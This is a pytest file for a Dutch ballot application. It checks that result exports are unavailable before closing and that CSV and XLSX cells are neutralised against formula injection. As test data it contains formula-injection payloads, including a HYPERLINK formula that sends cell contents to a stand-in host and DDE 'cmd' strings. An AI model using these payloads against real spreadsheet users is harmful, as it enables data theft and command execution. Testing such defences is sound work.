"""Board exports (issue #13, items 3 and 4): they exist only after closing, and every text
cell reaches a spreadsheet program as text, never as a formula."""

import csv
import io

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse

from ballots import certification, services
from ballots.exports import FORMATS, spreadsheet_text
from ballots.models import ResultDocument
from tests.factories import (
    INTERIM_SETTINGS,
    INTERIM_SETTINGS_IDS,
    BallotFactory,
    RegionFactory,
    add_totp,
    board_member,
    choice,
    member,
    open_ballot,
)

pytestmark = pytest.mark.django_db

# OWASP's CSV injection list: a cell starting with one of these is a formula (or becomes one)
# in Excel, LibreOffice or Google Sheets.
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B1,"Klik hier")'


def board_client(client):
    board = board_member()
    add_totp(board)
    client.force_login(board)
    return client


def export_url(ballot, fmt: str) -> str:
    return reverse("ballots:download", args=[ballot.pk, fmt])


def _interim(**kwargs):
    """An open ballot with two votes cast by people whose names must not leak."""
    region = RegionFactory(code="utrecht", name="Utrecht")
    voters = [
        member(region=region, user__full_name="Anna Tussenstand"),
        member(region=region, user__full_name="Bram Tussenstand"),
    ]
    ballot = open_ballot(**kwargs)
    for voter in voters:
        services.cast_vote(ballot_id=ballot.pk, user=voter, choice=choice(ballot, "Voor").pk)
    return ballot


@pytest.mark.parametrize(
    "kind",
    INTERIM_SETTINGS,
    ids=INTERIM_SETTINGS_IDS,
)
def test_an_open_ballot_has_no_export(client, kind):
    ballot = _interim(**kind)
    client = board_client(client)
    for fmt in FORMATS:
        response = client.get(export_url(ballot, fmt))
        assert response.status_code == 409, fmt
        assert "Content-Disposition" not in response
        page = response.content.decode()
        assert "pas na de sluiting" in page and "open" in page, fmt
        assert "Tussenstand" not in page  # no roll call, no voter
        assert "Aangenomen" not in page and "adopted" not in page


def test_a_draft_has_no_export(client):
    ballot = BallotFactory()
    client = board_client(client)
    for fmt in FORMATS:
        assert client.get(export_url(ballot, fmt)).status_code == 409, fmt


def test_export_command_refuses_an_open_ballot(tmp_path, capsysbinary):
    ballot = _interim(secrecy="named", result_visibility="closed")
    for fmt in FORMATS:
        target = tmp_path / f"uit.{fmt}"
        with pytest.raises(CommandError, match="pas na de sluiting"):
            call_command("export_results", str(ballot.pk), "--format", fmt, "-o", str(target))
        assert not target.exists()
    with pytest.raises(CommandError, match="pas na de sluiting"):
        call_command("export_results", str(ballot.pk), "--format", "json")
    assert b"Tussenstand" not in capsysbinary.readouterr().out


def test_after_closing_the_table_exports_exist_and_the_pdf_waits_for_certification(client):
    ballot = services.close_ballot(_interim(secrecy="named", result_visibility="closed"))
    client = board_client(client)
    for fmt in ("json", "csv", "xlsx"):
        response = client.get(export_url(ballot, fmt))
        assert response.status_code == 200, fmt
        assert response["Content-Disposition"].endswith(f'stemming-{ballot.pk}.{fmt}"')
    pdf = client.get(export_url(ballot, "pdf"))
    assert pdf.status_code == 409 and "nog niet vastgesteld" in pdf.content.decode()
    certification.approve_result(ballot=ballot, by=board_member(), notify=False)
    certification.approve_result(ballot=ballot, by=board_member(), notify=False)
    pdf = client.get(export_url(ballot, "pdf"))
    assert pdf.status_code == 200 and pdf["Content-Type"] == "application/pdf"
    assert pdf.content == bytes(ResultDocument.objects.get(ballot=ballot).pdf)


@pytest.fixture
def hostile_ballot():
    """A closed named ballot whose voters, region and choice label start with each character
    that makes a spreadsheet cell a formula."""
    region = RegionFactory(code="evil", name="@SUM(1+1)*cmd|' /C calc'!A0")
    names = [HYPERLINK, "+31 6 12345678", "-2+3+cmd|' /C calc'!A0", "@Jan", "\tTab", "\rTerug"]
    voters = [member(region=region, user__full_name=name) for name in names]
    ballot = BallotFactory(secrecy="named", question="=1+1 Stemt u in?")
    ballot.choices.filter(label="Voor").update(label='=HYPERLINK("http://evil.example","Voor")')
    ballot.choices.filter(label="Tegen").update(label="-Tegen")
    ballot = services.open_ballot(ballot, notify=False)
    for n, voter in enumerate(voters):
        label = '=HYPERLINK("http://evil.example","Voor")' if n % 2 else "-Tegen"
        services.cast_vote(ballot_id=ballot.pk, user=voter, choice=choice(ballot, label).pk)
    return services.close_ballot(ballot), names


def test_xlsx_export_has_no_formula_and_keeps_the_text(client, hostile_ballot):
    from openpyxl import load_workbook

    ballot, names = hostile_ballot
    response = board_client(client).get(export_url(ballot, "xlsx"))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    formulas = [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not formulas, formulas
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    assert not [text for text in texts if text.startswith(DANGEROUS)]
    for name in names:
        assert "'" + name in texts, name  # neutralised, not lost
    assert "'=1+1 Stemt u in?" in texts
    assert '\'=HYPERLINK("http://evil.example","Voor")' in texts
    # Numbers stay numbers: the vote counts are integer cells.
    assert any(cell.data_type == "n" and cell.value == 3 for cell in cells)


def test_csv_export_neutralises_every_dangerous_cell(client, hostile_ballot):
    ballot, names = hostile_ballot
    response = board_client(client).get(export_url(ballot, "csv"))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(DANGEROUS)]
    for name in names:
        assert "'" + name in cells, name
    assert "'-Tegen" in cells
    assert "3" in cells  # counts are written as plain numbers


def test_export_command_writes_neutralised_spreadsheets(hostile_ballot, tmp_path):
    from openpyxl import load_workbook

    ballot, _names = hostile_ballot
    target = tmp_path / "uitslag.xlsx"
    call_command("export_results", str(ballot.pk), "--format", "xlsx", "-o", str(target))
    sheet = load_workbook(target).active
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_json_export_keeps_the_exact_text(client, hostile_ballot):
    """JSON is data, not a spreadsheet: names and labels stay exactly as registered."""
    import json

    ballot, names = hostile_ballot
    data = json.loads(board_client(client).get(export_url(ballot, "json")).content)
    assert sorted(r["voter"] for r in data["roll_call"]) == sorted(names)


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+31", "'+31"),
        ("-5", "'-5"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\nx", "'\nx"),
        ("\uff1d1+1", "'\uff1d1+1"),  # full-width equals sign: some Excel locales read it as "="
        ("Voor", "Voor"),
        ("", ""),
        (3, 3),
        (-3, -3),
        (None, None),
    ],
)
def test_spreadsheet_text(value, expected):
    assert spreadsheet_text(value) == expected


def test_spreadsheets_use_dutch_words_not_codes():
    """Issue #16 item 7: the CSV said "closed" and "adopted"."""
    import csv
    import io

    from ballots import exports, services
    from tests.factories import RegionFactory, choice, member, open_ballot

    region = RegionFactory()
    people = [member(region=region) for _ in range(3)]
    ballot = open_ballot(secrecy="named")
    for person in people:
        services.cast_vote(ballot_id=ballot.pk, user=person, choice=choice(ballot, "Voor").pk)
    ballot = services.close_ballot(ballot, notify=False)
    rows = list(csv.reader(io.StringIO(exports.as_csv(ballot).decode("utf-8-sig")), delimiter=";"))
    cells = {row[0]: row[1:] for row in rows if row}
    assert cells["Status"][0] == "gesloten"
    assert cells["Uitslag"][0] == "aangenomen"
